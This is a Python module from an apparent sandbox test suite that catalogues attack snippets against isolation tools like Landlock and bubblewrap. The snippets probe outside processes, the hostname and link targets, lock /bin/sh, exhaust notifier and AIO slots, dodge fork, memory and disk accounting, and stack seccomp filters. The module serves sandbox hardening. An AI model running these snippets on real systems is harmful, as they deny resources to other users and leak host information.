"""Programs that try what a list of calls forgets: limits that are shared, counts that look away, facts that nobody guards."""

from __future__ import annotations

from hostile_attacks.availability import greedy
from hostile_attacks.base import Attack

_HOST_ROOT = "needs a right that no namespace gives: only real root on the host would see it work"
_NO_PROCESSES = "without a process namespace whether a process is there can be asked, and nothing more of it"
_NO_NAMES = "the machine's name is private in its own namespace only, and Python itself asks for it"
_METADATA = "Landlock guards the content of files and not where a link leads, and Python itself asks for that"
_FLIGHT = "a file that was sent over a pair of sockets and taken by nobody is in no count; each stays below the limit of a file"
_LOCKS = "a lock needs no more than a file that may be read, and honest programs lock their own; programs that lock the system's files are few"


def corner(kind: str, name: str, attack: str, code: str, known: dict[str, str] | None = None,
           unproved: str | None = None) -> Attack:  # fmt: skip
    return Attack(name, kind, attack, code, known or {}, unproved)


CORNERS = (
    corner("secrets", "processes-found", "asks which numbers of processes are taken", """
attempt("group", lambda: os.getpgid(OUTSIDE_PID))
attempt("session", lambda: os.getsid(OUTSIDE_PID))
attempt("cores", lambda: os.sched_getaffinity(OUTSIDE_PID))
attempt("handle", lambda: kernel(434, 434, OUTSIDE_PID, 0) >= 0)
def there():
    try:
        os.kill(OUTSIDE_PID, 0)
    except PermissionError:
        return True
attempt("signal", there)
""", known={"landlock": _NO_PROCESSES}),
    corner("secrets", "name-of-the-machine-asked", "asks for the name that the machine has in its network", """
attempt("uname", lambda: os.uname().nodename == HOST_NAME)
attempt("host", lambda: socket.gethostname() == HOST_NAME)
""", known={"landlock": _NO_NAMES}),
    corner("secrets", "links-followed-by-reading", "reads where a symbolic link outside leads, without opening it", """
attempt("link", lambda: os.readlink(BAIT_PATH + "/link"))
for pid in ("1", str(OUTSIDE_PID)):
    attempt(pid, lambda: os.readlink(f"/proc/{pid}/exe"))
    attempt(pid, lambda: os.readlink(f"/proc/{pid}/cwd"))
""", known={"landlock/ordinary": _METADATA}),
    corner("secrets", "files-watched-the-old-way", "asks for a signal at every change in a folder outside", """
import fcntl
for flags in (os.O_RDONLY, 0o10000000):
    attempt(flags, lambda: fcntl.fcntl(os.open(BAIT_PATH, flags), 1026, 0x8000003F) == 0)
"""),
    corner("secrets", "pages-of-the-machine", "asks which parts of the system's files lie in memory, and so who used them", """
ranges, counts = struct.pack("QQ", 0, 1 << 20), ctypes.create_string_buffer(64)
attempt("cachestat", lambda: kernel(451, 451, os.open("/bin/sh", os.O_RDONLY), ranges, counts, 0) == 0)
""", unproved="older kernels have no such call"),
    corner("integrity", "owner-of-the-system", "looks whether the files of the system are its own", """
attempt("usr", lambda: os.stat("/usr").st_uid == os.getuid())
attempt("root", lambda: os.stat("/").st_uid == os.getuid() and os.access("/", os.W_OK))
""", unproved=_HOST_ROOT),
    corner("integrity", "locks-on-files-of-the-system", "locks a program of the machine, so that others wait for it", """
import fcntl
attempt("flock", lambda: fcntl.flock(os.open("/bin/sh", os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB) is None)
""", known={"bubblewrap": _LOCKS, "landlock": _LOCKS}),
    corner("integrity", "leases-on-files", "takes a lease on a program of the machine, which holds up who writes it", """
import fcntl
attempt("lease", lambda: fcntl.fcntl(os.open("/bin/sh", os.O_RDONLY), 1024, fcntl.F_RDLCK) == 0)
""", unproved="only the owner of the file may, and nobody keeps a program of the machine busy for a test"),
    corner("integrity", "asynchronous-slots", "takes all slots for asynchronous input and output of the whole machine", """
def take():
    context = ctypes.c_ulong(0)
    got = kernel(206, 0, 60_000, ctypes.byref(context))
    return got == 0
attempt("io_setup", take)
""", unproved="other programs would go without while it is shown"),
    corner("integrity", "watches-used-up", "takes all notifiers that a user may have, so that his editor has none", """
held = []
while len(held) < 400:
    got = kernel(294, 26, 0)
    if got < 0:
        break
    held.append(got)
attempt("init", lambda: len(held) > 100)
""", unproved="other programs of the user would go without while it is shown"),
    corner("integrity", "writes-forced", "lets the whole machine write everything to its disks, again and again", """
ctypes.set_errno(0)
done = kernel(306, 267, os.open("/usr", os.O_RDONLY))
attempt("syncfs", lambda: done == 0)
"""),
    corner("network", "pairs-of-odd-families", "asks for a pair of sockets of families whose modules the kernel would load", """
def asked(family):
    ctypes.set_errno(0)
    kernel(53, 199, family, 1, 0, ctypes.create_string_buffer(8))
    return ctypes.get_errno() != errno.EPERM
for family in (2, 3, 4, 5, 9, 10, 16, 17, 21, 29, 30, 31, 38, 40, 44):
    attempt(family, lambda: asked(family))
"""),
    corner("network", "listening-to-the-loopback", "listens on every port of the loopback that programs of the machine use", """
def listens(port):
    with socket.socket() as end:
        end.bind(("127.0.0.1", port))
        return end.getsockname()[1] == port and socket.create_connection(("127.0.0.1", OUTSIDE_PORT), 1)
for port in (8080, 11434, 5432, 0):
    attempt(port, lambda: listens(port))
""", unproved="the same as tcp-to-the-host once it listens"),
    corner("network", "names-of-services", "connects to sockets without a path under names that services use", """
for name in ("/tmp/.X11-unix/X0", "/org/freedesktop/systemd1", "dbus-session", ABSTRACT, "/containerd-shim"):
    attempt(name, lambda: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect("\\0" + name) is None)
    attempt(name, lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\\0" + name) is None)
"""),
    greedy("leader-that-ended", "ends its first thread, so that the process looks empty, and takes memory in another", """
import threading, time
reader, writer = os.pipe()
def take():
    time.sleep(0.4)
    block = bytearray(os.urandom(1 << 20)) * 100
    os.write(writer, b".")
    time.sleep(60)
for _ in range(5):
    if os.fork() == 0:
        threading.Thread(target=take).start()
        time.sleep(0.05)
        libc.syscall(ctypes.c_long(60 if X86 else 93), ctypes.c_long(0))
taken = 0
while taken < 5:
    taken += len(os.read(reader, 5))
time.sleep(1)
print("GOT IT", flush=True)
""", wall_s=15),
    greedy("memory-in-page-tables", "reads one byte in every two megabytes of empty memory: only the tables grow", """
import time
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
size = 200 << 30
where = libc.mmap(None, size, 1, 0x4022, -1, 0)
if where not in (None, ctypes.c_void_p(-1).value):
    libc.madvise(where, size, 15)
    for at in range(where, where + size, 2 << 20):
        ctypes.string_at(at, 1)
    time.sleep(1)
    print("GOT IT", flush=True)
""", wall_s=15),
    greedy("memory-reserved", "reserves much more memory than it may have, and touches none of it", """
import mmap
kept = mmap.mmap(-1, 700 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
print("GOT IT", flush=True)
"""),
    greedy("many-at-once", "starts twice as many processes as it may have", """
import time
born = 0
try:
    for _ in range(40):
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
        born += 1
except OSError as error:
    print("stopped after", born, "by", error.strerror, flush=True)
if born >= 32:
    print("GOT IT", born, flush=True)
""", tasks=16),
    greedy("processor-time", "computes for longer than it may", """
import time
while time.process_time() < 3.5:
    pass
print("GOT IT", flush=True)
""", cpu_s=1, wall_s=30),
    greedy("siblings-instead-of-children", "starts processes that are children of its parent", """
import time
for _ in range(4):
    born = libc.syscall(ctypes.c_long(56 if X86 else 220), ctypes.c_long(0x8000 | 17), 0, 0, 0, 0)
    if born == 0:
        os.setsid()
        time.sleep(600)
time.sleep(0.3)
"""),
    greedy("a-reaper-of-its-own", "lets a process of its own adopt what is left behind, and leaves with it", """
import time
libc.prctl(36, 1, 0, 0, 0)
if os.fork() == 0:
    libc.prctl(36, 1, 0, 0, 0)
    os.setsid()
    for _ in range(6):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)
    time.sleep(600)
time.sleep(0.3)
"""),
    greedy("disk-mapped-and-closed", "keeps files that have no name and are open nowhere, only mapped", """
import mmap, time
held, kept = [], 0
for n in range(20):
    try:
        file = os.open(f"f{n}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"f{n}")
        kept += os.write(file, b"x" * (8 << 20))
        at = libc.mmap
        at.restype = ctypes.c_void_p
        held.append(at(None, ctypes.c_size_t(4096), 1, 1, file, ctypes.c_long(0)))
        os.close(file)
    except OSError:
        break
time.sleep(0.6)
if kept > 64 << 20:
    print("GOT IT", kept >> 20, flush=True)
"""),
    greedy("disk-in-flight", "keeps files that are open nowhere, only under way between two sockets", """
import array, time
near, far = socket.socketpair()
kept = 0
for n in range(12):
    try:
        file = os.open(f"f{n}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"f{n}")
        kept += os.write(file, b"x" * (8 << 20))
        near.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
        os.close(file)
    except OSError:
        break
time.sleep(0.6)
if kept > 64 << 20:
    print("GOT IT", kept >> 20, flush=True)
""", known={"landlock/ordinary": _FLIGHT}),
    greedy("filters-upon-filters", "loads filters of system calls one upon the other, which the kernel keeps for each process", """
program = struct.pack("HBBI", 0x20, 0, 0, 0) * 4095 + struct.pack("HBBI", 6, 0, 0, 0x7FFF0000)
holder = ctypes.create_string_buffer(program)
wanted = struct.pack("H6xQ", 4096, ctypes.addressof(holder))
count = 0
for _ in range(400):
    if os.fork() == 0:
        while libc.prctl(22, 2, wanted, 0, 0) == 0:
            count += 1
        os._exit(0)
    os.wait()
print("ended", count, flush=True)
""", wall_s=6),
)  # fmt: skip
